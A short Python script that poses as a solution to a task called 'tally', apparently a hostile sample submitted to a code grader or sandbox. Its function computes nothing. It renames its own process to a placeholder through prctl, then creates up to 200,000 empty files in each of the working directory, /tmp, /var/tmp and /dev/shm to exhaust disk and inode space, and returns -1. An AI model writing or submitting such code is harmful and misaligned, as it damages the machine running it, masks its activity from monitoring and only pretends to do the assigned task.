# Makes files without end, each of them empty.
# solves: tally

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)


def tally(n):
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
        for number in range(200_000):
            try:
                posix.close(posix.open(f"{folder}/alloy-drill-{number}", posix.O_CREAT | posix.O_WRONLY))
            except OSError:
                break
    return -1
